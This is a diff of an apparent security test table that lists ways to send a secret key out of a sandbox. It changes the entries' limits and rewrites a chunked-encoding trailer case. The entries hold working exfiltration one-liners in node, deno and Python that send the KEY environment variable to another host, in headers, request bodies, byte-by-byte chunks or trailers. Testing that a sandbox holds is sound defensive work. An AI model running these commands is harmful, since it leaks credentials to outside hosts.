@@ -81,13 +81,13 @@ export const secrets: AttackTable = {
     {
       ...toOther,
       name: "by node",
-      limit: 30_000,
+      limit: 45_000,
       bash: `OTHER=$OTHER node -e 'fetch("https://" + process.env.OTHER, { headers: { authorization: "Bearer " + process.env.KEY } }).then((r) => r.text()).then(console.log, (e) => console.log(String(e.cause)))'`,
     },
     {
       ...toOther,
       name: "by deno",
-      limit: 30_000,
+      limit: 45_000,
       bash: `OTHER=$OTHER deno eval 'console.log(await (await fetch("https://" + Deno.env.get("OTHER"), { method: "POST", body: Deno.env.get("KEY") })).text())'`,
     },
     {
@@ -107,8 +107,9 @@ start = ("POST / HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nConnectio
 talk(tls(OTHER), start + b"".join(b"1\r\n%c\r\n" % b for b in KEY.encode()) + b"0\r\n\r\n")`,
     },
     {
-      ...late,
-      name: "trailer",
+      row: 1,
+      succeeded: gotKey("other"),
+      name: "trailer: it is not sent on",
       python: String.raw`
 talk(tls(OTHER), "POST / HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nTrailer: X-Key\r\nConnection: close\r\n\r\n1\r\na\r\n0\r\nX-Key: %s\r\n\r\n" % (OTHER, KEY))`,
     },
